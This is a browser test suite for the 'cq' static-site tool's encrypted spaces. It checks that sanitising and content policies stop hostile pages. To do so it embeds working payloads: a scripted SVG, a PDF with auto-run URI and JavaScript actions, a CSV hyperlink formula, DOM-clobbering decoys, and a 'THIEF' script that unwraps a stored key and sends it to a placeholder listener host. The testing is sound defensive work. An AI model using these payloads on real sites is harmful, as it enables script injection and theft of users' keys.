"""Hostile words, in a sealed space and on the public pages: nothing is asked of another server, no
script runs, nobody is led away, and no page puts itself in the place of what guards the spaces.

Each way out of `vectors` is tried as Markdown, which `cq build` cleans, and as a page that somebody
who holds the key has sealed by hand, which only the page of the spaces stands against. A host that
sends no header is the weakest: the policy of each page is then all there is.
"""

import contextlib
import json
import re
import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from playwright.sync_api import Browser, Error, Page

from cq.content.layout import PRIVATE_FOLDER
from cq.seal import slots
from cq.seal.file import canonical, seal, unseal
from cq.seal.keys import LEAST_ITERATIONS, Root
from cq.seal.ring import Ring
from tests.browser import sealed_site
from tests.browser.conftest import served
from tests.browser.firefox import Firefox, firefox
from tests.browser.listener import Listener, listening, plainly
from tests.browser.sealed_site import ALL, CENTRE, File
from tests.browser.vectors import MARKDOWN, SILENT, VECTORS, Vector

KEYS = {space: sealed_site.key(space) for space in (CENTRE, ALL)}
SHELL = "espace/index.html"
DRAWING = "/documents/piege.svg"
SCRIPTED = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="9" height="9" onload="@ran@"><script>@ran@</script><script href="@out@/a.js"/>'
    '<image href="@out@/b.png" width="9" height="9"/><use xlink:href="@out@/c.svg#a"/>'
    "<style>@import '@out@/d.css'; rect { fill: url(@out@/e.svg#a) }</style>"
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
    'src="@out@/f"/></foreignObject><a href="javascript:@ran@">'
    '<rect width="9" height="9"/></a></svg>'
)


class Tab:
    """A tab of Chromium, with the words that `firefox.Firefox` knows too."""

    def __init__(self, page: Page) -> None:
        self.page = page

    def goto(self, address: str) -> None:
        """There, even if the page before is just leading elsewhere."""
        end = time.monotonic() + 20
        while True:
            try:
                self.page.goto(address)
            except Error as fault:
                late = time.monotonic() > end
                if late or not re.search("interrupted by|ERR_ABORTED", str(fault)):
                    raise
                self.page.wait_for_timeout(100)
            else:
                return

    def run(self, script: str, *arguments: object) -> Any:
        return self.page.evaluate(
            f"(given) => (function () {{ {script} }}).apply(null, given)", [*arguments]
        )

    def click(self, selector: str) -> None:
        self.page.locator(selector).first.click(timeout=3000, no_wait_after=True)

    def until(self, true: str) -> None:
        end = time.monotonic() + 20
        while not self.run(f"return {true}"):
            assert time.monotonic() < end, true
            self.page.wait_for_timeout(20)


Driver = Tab | Firefox


class Site(NamedTuple):
    """Where the built site is, and what its hostile pages call."""

    folder: Path
    ear: Listener


def drawing(out: str) -> bytes:
    return Vector("drawing", SCRIPTED).at(out).replace("&", "&amp;").encode()


def paper(out: str) -> bytes:
    """A PDF that would send its reader, a form and a script elsewhere as soon as it is open."""
    actions = (
        f"/OpenAction << /S /URI /URI ({out}/pdf/uri) /Next [ << /S /JavaScript /JS "
        f"(app.launchURL\\('{out}/pdf/js'\\); this.submitForm\\('{out}/pdf/submit'\\)) >> "
        f"<< /S /SubmitForm /F ({out}/pdf/form) >> << /S /GoToR /F ({out}/pdf/remote.pdf) >> ] >>"
    )
    plain = sealed_site.pdf(100)
    return plain.replace(b"/Type /Catalog", b"/Type /Catalog " + actions.encode())


def write(root: Path, out: str) -> None:
    """The same hostile texts and files in public and in the space, and its key's public part."""
    ways = {"wiki": "public", f"quartiers/centre/{PRIVATE_FOLDER}/wiki": "markdown"}
    made: dict[str, str | bytes] = {
        "content/quartiers/centre/quartier.yml": "nom: Quartier Centre\n",
        "content/prive/wiki/un.md": "# Un\n\nTexte.\n",
        "acces.json": slots.written(
            sealed_site.SITE, sealed_site.SALT, LEAST_ITERATIONS,
            {
                Root.of_token(sealed_site.SITE, sealed_site.TOKEN): {CENTRE: KEYS[CENTRE]},
                Ring(sealed_site.SITE, KEYS).root: {},
            },
            dummies=[], random=sealed_site.chance(),
        ),
    }  # fmt: skip
    for folder, way in ways.items():
        for one in (*VECTORS, *MARKDOWN):
            text = one.at(f"{out}/{way}")
            made[f"content/{folder}/{one.name}.md"] = f"# {one.name}\n\nTexte.\n\n{text}\n\nFin.\n"
        files = "".join(f"[{name}]({name}) " for name in ("piege.svg", "piege.pdf", "piege.csv"))
        made[f"content/{folder}/pieces.md"] = f"# pieces\n\n![dessin](piege.svg)\n\n{files}\n"
        made[f"content/{folder}/a.png"] = sealed_site.picture((21, 69, 127))  # what `base` names
        made[f"content/{folder}/piege.svg"] = drawing(f"{out}/{way}")
        made[f"content/{folder}/piege.pdf"] = paper(f"{out}/{way}")
        table = Vector("table", '<script>@ran@</script>,"=HYPERLINK(""@out@/csv"")"\n')
        made[f"content/{folder}/piege.csv"] = table.at(f"{out}/{way}")
        made[f"content/{folder}/page.html"] = Vector("page", "<script>@ran@</script>").at(out)
    for name, body in made.items():
        file = root / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(body.encode() if isinstance(body, str) else body)


def forged(out: str) -> dict[str, File]:
    """What somebody who holds the key seals by hand: no sanitiser ever saw it."""
    pages = {f"/a-la-main/{one.name}/": one.at(f"{out}/raw") for one in VECTORS}
    pages["/a-la-main/image/"] = f'<p>x</p><img src="#/{CENTRE}{DRAWING}" alt="x">'
    pages["/a-la-main/corps/"] = BODY.replace("@out@", f"{out}/raw")
    pages["/a-la-main/doubles/"] = DOUBLES.replace("@out@", f"{out}/raw")
    made = {
        path: File(f"<h1>{path.split('/')[2]}</h1>\n{html}".encode(), title=path)
        for path, html in pages.items()
    }
    return made | {DRAWING: File(drawing(f"{out}/raw"), "image/svg+xml")}


# Elements that would be taken for those of the page itself, by their ids or their names.
_OURS = """cas page porte titre dit ouvrir invitation champ phrase afficher propositions garder
    nom tous imprimer fermer avis annonce imprime bande attente contenu mots"""
DOUBLES = (
    "".join(f'<div id="cq_{one}">double</div>' for one in _OURS.split())
    + '<div id="cq_recherche_modele" data-scripts="@out@/a.js x @out@/b.js x">double</div>'
    '<div id="cq_recherche" data-indice="@out@/i/" data-racine="@out@/r/"></div>'
    '<div id="cq_nombre"></div><div id="cq_resultats"></div><div id="cq_sans_script"></div>'
    '<form id="location"></form><a id="policy" name="policy"></a><img name="body" alt="x">'
    '<img name="getElementById" id="getElementById" alt="x"><a id="trustedTypes"></a>'
    '<iframe name="crypto"></iframe><p data-cas="abime">double</p>'
)


# In a document, a form may stand for its `body`, and fields outside the form for that form's
# `childNodes`: whoever walks over the one and shows the other shows what was never looked at.
BODY = (
    '<form id="f" name="body"><h1>corps</h1></form><form id="g" name="documentElement"></form>'
    + '<fieldset form="f" name="childNodes"><h1>corps</h1>'
    '<meta http-equiv="refresh" content="0; url=@out@/corps/a"><img src="@out@/corps/b" alt="x" '
    'onerror="@ran@"><a ping="@out@/corps/c" href="javascript:@ran@">x</a></fieldset>' * 2
)


def hide(site: Path, out: str) -> None:
    """Put the forged pages beside what `cq build` has sealed, in the manifest too."""
    own = KEYS[CENTRE]
    manifest = sealed_site.place_of(site, own.manifest_id)
    told = json.loads(unseal(own, own.manifest_id, manifest.read_bytes()).body)
    for path, one in forged(out).items():
        made = seal(own, own.file_id(path), one.body, media=one.media)
        sealed_site.put(site, made)
        if path.endswith("/"):
            told["pages"].append(
                {"p": path, "t": one.title, "d": "", "i": made.id, "x": made.x, "c": "wiki"}
            )
        else:
            told["files"][path] = [made.id, made.x, len(one.body), one.media]
    sealed_site.put(site, seal(own, own.manifest_id, canonical(told), media="application/json"))


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, run_cq_often: Callable[..., Any], root: Path
) -> Iterator[Site]:
    """The site as `cq build` makes it with its keys, and what its key's thief adds."""
    place = tmp_path_factory.mktemp("hostile")
    shutil.copytree(root / "tests" / "sites" / "minimal" / "content", place / "content")
    with listening() as ear:
        write(place, ear.out)
        done = run_cq_often(
            "build", "--root", place,
            env={
                "CQ_CLES": Ring(sealed_site.SITE, KEYS).line(),
                "CQ_ACCES": str(place / "acces.json"),
                "CQ_BUILD_NUMBER": str(sealed_site.BUILD),
            },
        )  # fmt: skip
        assert done.returncode == 0, done.stdout + done.stderr
        hide(place / "build" / "site", ear.out)
        yield Site(place / "build" / "site", ear)


@pytest.fixture(scope="module")
def fox(tool: Callable[[str], str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Firefox]:
    with firefox(tool("firefox"), tmp_path_factory.mktemp("profile")) as one:
        yield one


@pytest.fixture(params=["chromium", "firefox"])
def engine(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def driver(engine: str, request: pytest.FixtureRequest) -> Iterator[Driver]:
    """A tab of either browser."""
    if engine == "firefox":
        yield request.getfixturevalue("fox")
        return
    with request.getfixturevalue("browser").new_context() as context:
        yield Tab(context.new_page())


@pytest.fixture(params=[plainly, served], ids=["no-header", "headers"])
def address(request: pytest.FixtureRequest, hostile: Site) -> Iterator[str]:
    """Where the site is: at a host that knows nothing of us, and at a careful one."""
    with request.param(hostile.folder) as where:
        hostile.ear.forget()
        yield where


def enter(tab: Driver, address: str, *, remember: bool = False) -> None:
    """With an invitation, as its holder."""
    tab.goto(f"{address}{SHELL}{sealed_site.invitation()}")
    tab.until("!document.querySelector('#cq_ouvrir').hidden")
    if remember:
        tab.click("#cq_garder")
    tab.click("#cq_ouvrir [type=submit]")
    tab.until("document.querySelector('#cq_page h1')")


def go(tab: Driver, path: str, title: str) -> None:
    tab.run("location.hash = arguments[0]", f"#/{CENTRE}{path}")
    tab.until(f"document.querySelector('#cq_page h1')?.textContent === {json.dumps(title)}")


# What stands in the page and could act, call or lead away by itself.
ACTING = r"""
const elements = new Set(`script style link meta base iframe frame object embed form button select
	textarea template video audio source track use image animate set foreignobject math`.split(/\s+/));
const attributes = /^(?:on.*|style|srcset|srcdoc|action|formaction|form|ping|target|background|poster|data|xlink:.*|name|http-equiv|autofocus|contenteditable|popover.*|is|slot|part|nonce)$/i;
const wrong = [];
for (const one of document.querySelectorAll("#cq_page, #cq_page *")) {
	if (elements.has(one.localName.toLowerCase()) || one.shadowRoot) wrong.push(one.localName);
	for (const { name, value } of one.attributes) {
		if (attributes.test(name) || (name === "src" && !value.startsWith("blob:"))
			|| (name === "href" && !/^(?:#|https?:|mailto:|tel:)/.test(value))) wrong.push(name);
	}
}
return wrong;
"""  # noqa: E501
# A reader who clicks whatever is there, but for links to other sites and our own menu.
CLICK = """
const may = "#cq_page :is(a, button, input, summary, label, svg *):not(nav *)";
for (const one of document.querySelectorAll(may)) {
	const asked = new MouseEvent("click", { bubbles: true, cancelable: true });
	if (!/^https?:/.test(one.getAttribute("href") || "")) one.dispatchEvent(asked);
}
"""
RAN = "return document.documentElement.dataset.pwned || ''"
HERE = "return location.href"
SETTLE = 1.0  # seconds in which what was begun is heard


def test_without_a_policy_the_server_hears_it(engine: str, driver: Driver, tmp_path: Path) -> None:
    """The control: what follows would have been seen."""
    with listening() as ear, plainly(tmp_path) as where:
        for one in VECTORS:
            text = f"<!doctype html><title>x</title><body>{one.at(f'{ear.out}/control')}"
            (tmp_path / f"{one.name}.html").write_text(text, "utf-8")
        frames = "".join(
            f'<iframe src="{one.name}.html"></iframe>' for one in VECTORS if not one.click
        )
        (tmp_path / "all.html").write_text(f"<!doctype html><title>x</title>{frames}", "utf-8")
        driver.goto(f"{where}all.html")
        time.sleep(SETTLE)
        for one in VECTORS:
            if ear.heard(f"/{one.name}/") or one.name in SILENT[engine]:
                continue
            driver.goto(f"{where}{one.name}.html")
            if one.click:
                driver.click(one.click)
            ear.waited(f"/{one.name}/", 5)
        missed = {one.name for one in VECTORS if not ear.heard(f"/control/{one.name}/")}
    assert missed <= SILENT[engine]


def test_no_page_of_a_space_calls_another_server(
    driver: Driver, address: str, hostile: Site
) -> None:
    enter(driver, address)
    pages = [(f"/wiki/{one.name}/", one.name) for one in (*VECTORS, *MARKDOWN)]
    pages += [(path, path.split("/")[2]) for path in forged("") if path.endswith("/")]
    for path, title in pages:
        go(driver, path, title)
        assert driver.run(ACTING) == [], path
        driver.run(CLICK)
        assert driver.run(RAN) == "", path
    time.sleep(SETTLE)
    assert hostile.ear.asked == []
    assert hostile.ear.knocks == 0
    assert driver.run(HERE).startswith(f"{address}{SHELL}#/{CENTRE}/")
    assert driver.run("return frames.length + document.scripts.length") == 1


def test_nothing_of_a_page_is_taken_for_the_page_of_the_spaces(
    driver: Driver, address: str, hostile: Site
) -> None:
    """Ids and names that are its own: files still open, the search still asks its own scripts,
    faults are still told, and the space still closes.
    """
    enter(driver, address)
    double = ("/a-la-main/doubles/", "doubles")
    go(driver, *double)
    go(driver, "/wiki/piege.pdf", "piege.pdf")
    go(driver, *double)
    go(driver, "/rien/", "Cette page ne s’ouvre pas")
    go(driver, *double)
    go(driver, "/recherche/", "Recherche")
    driver.until("document.querySelector('#cq_page form.recherche')")
    go(driver, *double)
    driver.run("document.querySelector('#cq_fermer').click()")
    driver.until("document.querySelector('#cq_page').hidden")
    assert driver.run(
        "return [document.querySelector('#cq_page').childNodes.length,"
        " document.querySelector('#cq_champ').hidden, document.querySelector('#cq_ouvrir').hidden]"
    ) == [0, False, False]
    time.sleep(SETTLE)
    assert hostile.ear.knocks == 0
    assert driver.run(RAN) == ""


def test_a_drawing_of_a_space_that_is_opened_by_itself_stays_harmless(
    browser: Browser, hostile: Site
) -> None:
    """« Ouvrir l’image dans un nouvel onglet »: a Blob is a page of our origin, with our policy."""
    with plainly(hostile.folder) as where, browser.new_context() as context:
        hostile.ear.forget()
        tab = Tab(context.new_page())
        enter(tab, where)
        go(tab, "/a-la-main/image/", "image")
        tab.until("document.querySelector('#cq_page img')?.src.startsWith('blob:')")
        with context.expect_page() as opened:
            tab.run("open(document.querySelector('#cq_page img').src)")
        opened.value.wait_for_timeout(1000 * SETTLE)
        assert opened.value.url.startswith("blob:")
        assert opened.value.evaluate("document.documentElement.localName") == "svg"
        assert opened.value.evaluate("document.documentElement.dataset.pwned") is None
    # The drawing's frame makes Chromium open a connection before its policy says no.
    assert hostile.ear.asked == []


THIEF = """<!doctype html><title>x</title><script>
(async () => {
	const settled = (asked) => new Promise((yes) => { asked.onsuccess = () => yes(asked.result); });
	const [{ name }] = await indexedDB.databases();
	const base = await settled(indexedDB.open(name));
	const kept = await settled(base.transaction("clef").objectStore("clef").get("clef"));
	const way = { name: "AES-GCM", iv: kept.iv };
	const one = await crypto.subtle.unwrapKey(
		"raw", kept.data, kept.key, way, "HKDF", false, ["deriveBits"],
	);
	fetch(`@out@/thief/${one.type}`);
})();
</script>"""


def test_no_public_page_nor_file_reads_what_the_device_keeps(
    driver: Driver, address: str, hostile: Site
) -> None:
    enter(driver, address, remember=True)
    names = [f"wiki/{one.name}/index.html" for one in (*VECTORS, *MARKDOWN)]
    for name in (*names, "wiki/pieces/index.html", "wiki/piege.svg"):
        assert (hostile.folder / name).is_file(), name
        driver.goto(f"{address}{name}")
        assert driver.run(HERE) == f"{address}{name}"
        assert driver.run(RAN) == "", name
    for name in ("wiki/piege.pdf", "wiki/piege.csv"):
        driver.goto(f"{address}wiki/pieces/index.html")
        driver.run("location.href = arguments[0]", f"{address}{name}")  # saved, or shown apart
        time.sleep(SETTLE / 2)
    assert not list(hostile.folder.rglob("page.html"))
    time.sleep(SETTLE)
    assert hostile.ear.knocks == 0
    # And it was there to be read: a page with a script and without a policy does.
    thief = hostile.folder / "voleur.html"
    thief.write_text(THIEF.replace("@out@", hostile.ear.out), "utf-8")
    with contextlib.suppress(Error, RuntimeError):
        driver.goto(f"{address}voleur.html")
    thieves = hostile.ear.waited("/thief/secret", 3)
    assert thieves == (address.startswith("http://localhost"))


# What a policy in the page does not stop: the refresh, which no policy stops, and what Firefox asks
# for while it still reads ahead of the page.
THROUGH = {
    "chromium": {"meta-refresh"},
    "firefox": {"meta-refresh", "img-srcset", "picture"},
}


def test_what_would_get_through_to_a_public_page_is_held_by_its_policy(
    engine: str, driver: Driver, hostile: Site, tmp_path: Path
) -> None:
    """Were both locks of the sanitiser open: a reader may be led away, or counted, but no script
    runs, so that nothing is carried out.
    """
    with plainly(tmp_path) as where:
        hostile.ear.forget()
        shutil.copytree(hostile.folder / "theme", tmp_path / "theme")
        plain = (hostile.folder / "wiki" / "img" / "index.html").read_text("utf-8")
        for one in sorted(VECTORS, key=lambda one: one.name == "meta-refresh"):
            file = tmp_path / "wiki" / one.name / "index.html"
            file.parent.mkdir(parents=True)
            text = one.at(f"{hostile.ear.out}/through")
            file.write_text(plain.replace("Fin.", f"{text} Fin."), "utf-8")
            with contextlib.suppress(Error, RuntimeError):
                driver.goto(f"{where}wiki/{one.name}/index.html")
                if one.click:
                    driver.click(f"main :is({one.click})")
                # A page that is being left answers nothing.
                assert not driver.run(RAN), one.name
        hostile.ear.waited("/meta-refresh/", 5)
        time.sleep(SETTLE)
    told = {one.name for one in VECTORS if hostile.ear.heard(f"/through/{one.name}/")}
    assert "meta-refresh" in told
    assert told <= THROUGH[engine]
    assert not hostile.ear.heard("/ran")
